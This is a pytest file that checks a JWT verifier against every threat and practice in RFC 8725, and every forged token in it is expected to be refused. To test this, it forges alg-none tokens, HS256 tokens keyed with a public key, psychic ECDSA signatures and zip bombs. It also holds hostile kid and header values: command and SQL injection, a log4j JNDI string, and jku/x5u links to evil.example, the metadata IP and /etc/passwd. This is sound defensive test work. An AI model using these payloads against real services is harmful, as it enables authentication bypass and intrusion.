"""RFC 8725, JSON Web Token Best Current Practices: every threat of section 2 and every practice of section 3.

Each test names its section. Attacks whose point is the key come with a verifier that has the honest key only; that no
key was fetched for them is counted at the provider.
"""

from __future__ import annotations

import base64
import hmac
import re
import sys
import zlib

import msgspec
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ec import SECP256R1
from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from joserfc.jwk import OctKey
from tests.tokens.kit import (
    AUDIENCE,
    ISSUER,
    USER,
    Clock,
    Provider,
    Sign,
    base64url,
    claims,
    forge,
    key_for,
    remote,
    signature_by,
    signed_raw,
    signed_with,
    token,
    verifier,
)

from cadenza.errors import AuthError, ConfigurationError, TokenFormatError, TokenInvalidError
from cadenza.tokens.compact import MAX_TOKEN_CHARACTERS
from cadenza.tokens.jwks import StaticKeySet
from cadenza.tokens.keys import MAX_KID_CHARACTERS
from cadenza.tokens.signer import SigningKey
from cadenza.tokens.verifier import Verifier

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ALGORITHMS = ["ES256", "RS256", "EdDSA"]


def unsigned(_: bytes) -> bytes:
    return b""


def mac_with(secret: bytes) -> Sign:
    return lambda signed: hmac.digest(secret, signed, "sha256")


def raw_signature(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def with_signature(text: str, signature: bytes) -> str:
    return f"{text.rpartition('.')[0]}.{base64url(signature)}"


def signature_of(text: str) -> bytes:
    encoded = text.rpartition(".")[2]
    return base64.urlsafe_b64decode(encoded + "=" * (-len(encoded) % 4))


async def assert_refused(text: str, checker: Verifier | None = None) -> AuthError:
    checker = checker or verifier()
    with pytest.raises((TokenFormatError, TokenInvalidError)) as caught:
        await checker.verify(text)
    assert checker.cached(text) is None
    return caught.value


# 2.1 Weak signatures and insufficient signature validation


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "", " none", "none\x00"])
@pytest.mark.parametrize("signature", [b"", b"\x00", b"x" * 64])
async def test_none_is_no_algorithm(alg: str, signature: bytes) -> None:
    """Sections 2.1 and 3.2: ``none``, in every spelling, with and without a signature."""
    await assert_refused(forge({"alg": alg, "kid": "key-1"}, claims(), lambda _: signature))


async def test_a_signature_cut_off_is_no_token() -> None:
    """Section 2.1."""
    head = token().rpartition(".")[0]
    for text in (head, f"{head}.", forge({"alg": "ES256", "kid": "key-1"}, claims(), unsigned)):
        assert isinstance(await assert_refused(text), TokenFormatError)


@pytest.mark.parametrize("alg", ALGORITHMS)
async def test_a_public_key_is_no_shared_secret(alg: str) -> None:
    """Sections 2.1 and 3.1: RS256 (ES256, EdDSA) turned into HS256, the public key as the secret, however written."""
    public = key_for(alg).public_jwk()
    key = _public_key(alg)
    spellings = [
        key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
        key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
        msgspec.json.encode(public),
        str(public.get("x", public.get("n"))).encode(),
        b"",
    ]
    checker = verifier(StaticKeySet([public]))
    for secret in spellings:
        await assert_refused(forge({"alg": "HS256", "kid": "key-1"}, claims(), mac_with(secret)), checker)
        # Even where HS256 is allowed, the secret is the configured one and nothing else.
        both = verifier(StaticKeySet([public]), algorithms=[alg, "HS256"], legacy_secret="s" * 32)
        await assert_refused(forge({"alg": "HS256", "kid": "key-1"}, claims(), mac_with(secret)), both)


def _public_key(alg: str) -> PublicKeyTypes:
    key = key_for(alg)._key
    assert not isinstance(key, OctKey)
    return key.public_key


def test_a_public_key_configured_as_the_secret_does_not_start() -> None:
    """Section 2.1: the other half of the confusion is ours to make."""
    pem = _public_key("RS256").public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    with pytest.raises(ConfigurationError):
        verifier(algorithms=["HS256"], legacy_secret=pem)


@pytest.mark.parametrize("claimed", ["ES256", "RS256", "EdDSA"])
@pytest.mark.parametrize("real", ["ES256", "RS256", "EdDSA"])
async def test_a_key_serves_its_own_algorithm_only(claimed: str, real: str) -> None:
    """Section 3.1: key type and curve are bound to the algorithm, all algorithms being allowed."""
    checker = verifier(StaticKeySet([key_for(real).public_jwk()]))
    text = signed_with({"alg": claimed}, key_for(real))
    if claimed == real:
        assert (await checker.verify(text)).alg == real
    else:
        assert isinstance(await assert_refused(text, checker), TokenInvalidError)


# 2.2 Weak symmetric keys


@pytest.mark.parametrize("secret", ["secret", "password", "s" * 31, b"\x00" * 31])
def test_a_weak_secret_does_not_start(secret: bytes | str) -> None:
    """Sections 2.2 and 3.5: RFC 7518 section 3.2, as long as the digest at least."""
    with pytest.raises(ConfigurationError):
        verifier(algorithms=["HS256"], legacy_secret=secret)


# 2.3 Incorrect composition of encryption and signature; 2.4 and 3.6 compression


async def test_an_encrypted_token_is_not_a_signed_one() -> None:
    """Section 2.3: five parts, and the header of one in three parts."""
    five = ".".join(base64url(part) for part in (b'{"alg":"dir","enc":"A256GCM"}', b"k", b"iv", b"text", b"tag"))
    assert isinstance(await assert_refused(five), TokenFormatError)
    for alg in ("dir", "RSA1_5", "RSA-OAEP", "ECDH-ES", "PBES2-HS256+A128KW"):
        await assert_refused(signed_with({"alg": alg, "enc": "A256GCM", "p2c": 2_000_000_000}))


async def test_nothing_is_ever_decompressed() -> None:
    """Sections 2.4 and 3.6: a bomb of claims, well signed, is not JSON and nothing more."""
    key = key_for()
    bomb = zlib.compress(b" " * 8_000_000 + b"{}")
    text = forge({"alg": "ES256", "kid": "key-1", "zip": "DEF"}, bomb[2:-4], signature_by(key))
    assert isinstance(await assert_refused(text), TokenFormatError)


# 2.5 Insecure use of elliptic curves; 3.3 and 3.4 validate operations and their inputs


@pytest.mark.parametrize(
    ("r", "s"),
    [
        (0, 0),
        (0, 1),
        (1, 0),
        (P256_ORDER, P256_ORDER),
        (P256_ORDER, 1),
        (1, P256_ORDER),
        (P256_ORDER + 1, 1),
        (2**256 - 1, 2**256 - 1),
        (1, 1),
    ],
)
async def test_a_psychic_signature_proves_nothing(r: int, s: int) -> None:
    """Sections 3.3 and 3.4: r and s of nothing, and at the order of the curve (CVE-2022-21449)."""
    await assert_refused(with_signature(token(), raw_signature(r, s)))


async def test_a_signature_in_der_is_another_spelling_and_refused() -> None:
    """Section 3.3: RFC 7518 section 3.4 wants 64 bytes."""
    good = token()
    signature = signature_of(good)
    der = encode_dss_signature(int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big"))
    await assert_refused(with_signature(good, der))


@pytest.mark.parametrize("alg", ALGORITHMS)
async def test_a_signature_of_another_length_is_refused(alg: str) -> None:
    """Section 3.3."""
    good = token(key_for(alg))
    signature = signature_of(good)
    checker = verifier(StaticKeySet([key_for(alg).public_jwk()]))
    half = len(signature) // 2
    wider = signature[:half] + b"\x00" + signature[half:]  # r and s as they were, s with a zero before it
    for bad in (signature[:-1], signature + b"\x00", b"\x00" + signature, signature * 2, signature[:half], wider):
        await assert_refused(with_signature(good, bad), checker)


async def test_the_mirror_of_an_ecdsa_signature_says_the_same_of_the_same_claims() -> None:
    """Section 3.3, a note rather than a threat: (r, n - s) verifies as well, in every JOSE library.

    A token's text is therefore no identity: nothing may be keyed by it that must be unique (revocation is by
    ``session_id``). The claims are what was signed, to the byte.
    """
    good = token()
    signature = signature_of(good)
    r, s = int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
    mirrored = with_signature(good, raw_signature(r, P256_ORDER - s))
    checker = verifier()
    assert mirrored != good
    assert (await checker.verify(mirrored)).claims == (await checker.verify(good)).claims


@pytest.mark.parametrize(
    "point", [(0, 0), (1, 1), (SECP256R1().key_size, 2), (2**256 - 1, 2**256 - 1)], ids=["zero", "one", "off", "beyond"]
)
def test_a_point_off_the_curve_is_no_key(point: tuple[int, int]) -> None:
    """Sections 2.5 and 3.4: the invalid-curve attack needs a library that does not look."""
    x, y = (base64url(number.to_bytes(32, "big")) for number in point)
    with pytest.raises(ConfigurationError):
        StaticKeySet([{**key_for().public_jwk(), "x": x, "y": y}])


# 2.6 Multiplicity of JSON encodings; 3.7 use UTF-8


@pytest.mark.parametrize(
    "payload",
    [
        '{"sub":"ü"}'.encode("latin-1"),
        '{"sub":"u"}'.encode("utf-16-le"),
        '{"sub":"u"}'.encode("utf-16-be"),
        '{"sub":"u"}'.encode("utf-32"),
        b'\xef\xbb\xbf{"sub":"u"}',
        b'{"sub":"\xc0\x80"}',
        b'{"sub":"\xed\xa0\x80"}',
    ],
)
async def test_claims_are_utf_8_and_nothing_else(payload: bytes) -> None:
    """Sections 2.6 and 3.7."""
    assert isinstance(await assert_refused(signed_raw(payload)), TokenFormatError)


async def test_a_user_may_have_any_name_in_utf_8() -> None:
    """Section 3.7."""
    assert (await verifier().verify(token(sub="用户-ü-\U0001f600"))).sub == "用户-ü-\U0001f600"


@pytest.mark.parametrize(
    "twice",
    [
        b'"sub":"user","sub":"admin"',
        b'"exp":1,"exp":9999999999',
        b'"iss":"x","\\u0069ss":"y"',
        b'"user_metadata":{"a":{"role":1,"role":2}}',
    ],
)
async def test_claims_that_say_a_thing_twice_are_refused(twice: bytes) -> None:
    """Section 2.6; RFC 7519 section 4: two readers would believe two things."""
    rest = msgspec.json.encode(claims(sub=None, exp=None, iss=None, user_metadata=None))[1:-1]
    assert isinstance(await assert_refused(signed_raw(b"{" + twice + b"," + rest + b"}")), TokenFormatError)


@pytest.mark.parametrize(
    "header",
    [
        b'{"alg":"none","alg":"ES256","kid":"key-1"}',
        b'{"alg":"ES256","kid":"key-1","alg":"none"}',
        b'{"alg":"ES256","kid":"key-1","kid":"key-2"}',
        b'{"alg":"ES256","kid":"key-1","jwk":{"kty":"EC","kty":"RSA"}}',
    ],
)
async def test_a_header_that_says_a_thing_twice_is_refused(header: bytes) -> None:
    """Section 2.6; RFC 7515 section 4."""
    text = forge(header, claims(), signature_by(key_for()))
    assert isinstance(await assert_refused(text), TokenFormatError)


async def test_every_other_spelling_of_a_good_token_is_refused() -> None:
    """Section 2.6: white space, padding, empty parts, the other alphabet, stray bits."""
    good = token()
    head, payload, signature = good.split(".")
    stray = signature[:-1] + chr(ord(signature[-1]) + 1)
    spellings = [
        f" {good}",
        f"{good}\n",
        f"{good}=",
        f"{good}.",
        f".{good}",
        f"{head}.{payload}.",
        f"{head}..{signature}",
        f".{payload}.{signature}",
        f"{head} .{payload}.{signature}",
        f"{head}.{payload}.{stray}",
        f"{head}.{payload}.{signature}\u200b",
        good.replace("e", "\uff45"),
        f"Bearer {good}",
        f'"{good}"',
    ]
    for spelling in spellings:
        assert isinstance(await assert_refused(spelling), TokenFormatError), spelling


# 2.7 Substitution attacks; 3.8 and 3.9 issuer, subject, audience


async def test_a_token_of_another_issuers_key_is_refused() -> None:
    """Sections 2.7 and 3.8: the same claims, the same ``kid``, another provider's key."""
    stranger = SigningKey.generate("ES256", kid="key-1")
    assert isinstance(await assert_refused(token(stranger)), TokenInvalidError)


async def test_a_token_for_someone_else_is_refused() -> None:
    """Sections 2.7 and 3.9: our provider, our key, another application."""
    await assert_refused(token(aud="another-application"))
    await assert_refused(token(iss="https://another.supabase.co/auth/v1"))
    await assert_refused(token(aud=None))
    await assert_refused(token(iss=None))


@pytest.mark.parametrize("sub", [42, True, ["admin"], {"id": 1}, 1.5])
async def test_a_subject_is_text(sub: object) -> None:
    """Section 3.8; seen: Centrifugo closes with 3500 on a numeric ``sub``."""
    assert isinstance(await assert_refused(signed_raw(msgspec.json.encode(claims(sub=sub)))), TokenFormatError)


async def test_parts_of_two_good_tokens_make_no_third() -> None:
    """Section 2.7."""
    user, admin = token(), token(sub="admin")
    swapped = f"{admin.rpartition('.')[0]}.{user.rpartition('.')[2]}"
    await assert_refused(swapped)
    eddsa = token(key_for("EdDSA", kid="other"))
    await assert_refused(f"{eddsa.split('.')[0]}.{user.split('.', 1)[1]}")


# 2.8 Cross-JWT confusion; 3.11 explicit typing; 3.12 exclusive rules


@pytest.mark.parametrize("typ", [None, "JWT", "jwt", "at+jwt", "application/at+jwt", "application/JWT"])
async def test_the_types_of_access_tokens_are_accepted(typ: str | None) -> None:
    """Section 3.11. Supabase says ``JWT`` where RFC 9068 wants ``at+jwt``; issuer and audience make up for it."""
    assert (await verifier().verify(signed_with({"typ": typ}))).sub == USER


@pytest.mark.parametrize(
    "typ", ["", "dpop+jwt", "logout+jwt", "secevent+jwt", "id+jwt", "JOSE", "application/", "kb+jwt"]
)
async def test_a_jwt_of_another_kind_is_no_access_token(typ: str) -> None:
    """Sections 2.8, 3.11 and 3.12."""
    assert isinstance(await assert_refused(signed_with({"typ": typ})), TokenInvalidError)


async def test_a_subscription_token_is_no_connection_token() -> None:
    """Sections 2.8 and 3.12; row A10: a ``channel`` claim makes it another kind."""
    assert isinstance(await assert_refused(token(channel="tradingAccount:1")), TokenInvalidError)


@pytest.mark.parametrize("cty", ["JWT", "jwt", "application/jwt", "anything", "", None, 1])
async def test_a_token_in_a_token_is_refused(cty: object) -> None:
    """Section 2.8; RFC 7519 section 5.2: nested."""
    header = msgspec.json.encode({"alg": "ES256", "kid": "key-1", "cty": cty})
    inner = token()
    sign = signature_by(key_for())
    assert isinstance(await assert_refused(forge(header, claims(), sign)), TokenInvalidError)
    await assert_refused(forge(header, inner.encode(), sign))
    await assert_refused(forge({"alg": "ES256", "kid": "key-1"}, inner.encode(), sign))
    await assert_refused(forge({"alg": "ES256", "kid": "key-1"}, msgspec.json.encode(inner), sign))


# 2.9 Indirect attacks on the server; 3.10 do not trust received claims


async def test_a_key_that_comes_with_the_token_is_not_looked_at() -> None:
    """Sections 2.9 and 3.10: ``jwk``, ``jku``, ``x5u``, ``x5c``, whatever they say, cause no request and no belief."""
    mallory = SigningKey.generate("ES256", kid="mallory")
    provider = Provider(key_for())
    checker = verifier(remote(provider, Clock()), Clock())
    await checker.verify(token())
    gifts: list[dict[str, object]] = [
        {"jwk": mallory.public_jwk()},
        {"jku": "https://evil.example/jwks.json"},
        {"jku": "http://169.254.169.254/latest/meta-data/"},
        {"x5u": "file:///etc/passwd"},
        {"x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA"},
    ]
    for gift in gifts:
        for kid in ("key-1", "mallory"):
            await assert_refused(signed_with({"kid": kid, **gift}, mallory), checker)
        # In a token of the provider's own they are as meaningless.
        assert (await checker.verify(signed_with(gift))).sub == USER
    assert provider.fetches == 2  # one for the first token, one in thirty seconds for all unknown ids


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "key-1' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "key-1; cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/key",
        "key-1\x00",
        "KEY-1",
        " key-1",
        "__class__",
        "k" * MAX_KID_CHARACTERS,
    ],
)
async def test_a_key_id_is_a_name_to_look_up_and_nothing_else(kid: str) -> None:
    """Section 3.10: injection through ``kid``; an empty key or file would make any MAC right."""
    await assert_refused(signed_with({"kid": kid}))
    for secret in (b"", b"\x00", b"secret"):
        await assert_refused(forge({"alg": "HS256", "kid": kid}, claims(), mac_with(secret)))


@pytest.mark.parametrize("kid", ["", "k" * (MAX_KID_CHARACTERS + 1), "k" * 10_000, None])
async def test_a_key_id_that_cannot_be_one_is_not_even_asked_for(kid: str | None) -> None:
    """Section 3.10."""
    provider = Provider(key_for())
    await assert_refused(signed_with({"kid": kid}), verifier(remote(provider, Clock())))
    assert provider.fetches == 0


@pytest.mark.parametrize("kid", [1, True, ["key-1"], {"a": 1}])
async def test_a_key_id_is_text(kid: object) -> None:
    """Section 3.10."""
    assert isinstance(await assert_refused(signed_with({"kid": kid})), TokenFormatError)


@pytest.mark.parametrize(
    "header",
    [
        {"crit": []},
        {"crit": ["exp"], "exp": 1},
        {"crit": ["b64"], "b64": False},
        {"b64": False},
        {"b64": True},
        {"crit": ["http://example.com/UNDEFINED"]},
    ],
)
async def test_an_extension_we_do_not_understand_is_refused(header: dict[str, object]) -> None:
    """Section 3.10; RFC 7515 section 4.1.11, RFC 7797."""
    assert isinstance(await assert_refused(signed_with(header)), TokenInvalidError)


@pytest.mark.parametrize("where", ["header", "claims", "signature"])
async def test_a_huge_token_costs_nothing(where: str) -> None:
    """Section 2.9: refused by its length, before it is decoded or hashed, and no key is asked for."""
    provider = Provider(key_for())
    checker = verifier(remote(provider, Clock()))
    sign = signature_by(key_for())
    texts = {
        "header": forge({"alg": "ES256", "kid": "key-1", "x": "x" * 20_000}, claims(), sign),
        "claims": token(user_metadata={"x": "x" * 20_000}),
        "signature": with_signature(token(), b"x" * 20_000),
    }
    assert len(texts[where]) > MAX_TOKEN_CHARACTERS
    assert isinstance(await assert_refused(texts[where], checker), TokenFormatError)
    assert provider.fetches == 0


@pytest.mark.parametrize("part", ["header", "claims"])
async def test_json_nested_without_end_is_refused(part: str) -> None:
    """Section 2.9."""
    deep = b'{"a":' * 1_500 + b"1" + b"}" * 1_500
    sign = signature_by(key_for())
    whole = b'{"alg":"ES256","kid":"key-1","x":' + deep + b"}"
    text = forge(whole, claims(), sign) if part == "header" else signed_raw(deep)
    assert isinstance(await assert_refused(text), TokenFormatError)


# 3.1 Algorithm verification; 3.2 appropriate algorithms


@pytest.mark.parametrize(
    "alg", ["HS256", "HS384", "HS512", "ES384", "ES512", "ES256K", "RS1", "RS384", "RS512", "PS256", "Ed25519", "Ed448"]
)
async def test_the_list_of_algorithms_is_the_callers(alg: str) -> None:
    """Sections 3.1 and 3.2: the token's ``alg`` is compared with the list, never looked up."""
    assert isinstance(await assert_refused(signed_with({"alg": alg})), TokenInvalidError)


async def test_an_algorithm_left_out_of_the_list_is_refused_though_its_key_is_there() -> None:
    """Section 3.1."""
    keys = StaticKeySet([key_for().public_jwk(), key_for("RS256", kid="rsa").public_jwk()])
    checker = verifier(keys, algorithms=["RS256"])
    assert (await checker.verify(token(key_for("RS256", kid="rsa")))).alg == "RS256"
    await assert_refused(token(), checker)


# 3.5 Keys with sufficient entropy


def test_short_keys_are_neither_verified_nor_signed_with() -> None:
    """Section 3.5; RFC 7518 sections 3.2 and 3.3."""
    weak_rsa = {**key_for("RS256").public_jwk(), "n": base64url(b"\xf1" * 128)}
    with pytest.raises(ConfigurationError):
        StaticKeySet([weak_rsa])
    with pytest.raises(ConfigurationError):
        SigningKey.from_jwk({"kty": "oct", "k": base64url(b"x" * 31)})


def test_the_verifier_is_bound_to_one_issuer_and_one_audience() -> None:
    """Sections 3.8, 3.9 and 3.12: without them it does not start (row A4)."""
    for issuer, audience in (("", AUDIENCE), (ISSUER, "")):
        with pytest.raises(ConfigurationError):
            Verifier(StaticKeySet([]), issuer=issuer, audience=audience, clock=Clock())


def test_every_section_has_its_test() -> None:
    """A docstring here opens with the sections it covers."""
    wanted = {f"2.{number}" for number in range(1, 10)} | {f"3.{number}" for number in range(1, 13)}
    cited: set[str] = set()
    for name, test in vars(sys.modules[__name__]).items():
        opening = re.match(r"Sections? [\d., and]+", test.__doc__ or "") if name.startswith("test_") else None
        if opening is not None:
            cited |= set(re.findall(r"\d\.\d+", opening.group()))
    assert cited == wanted
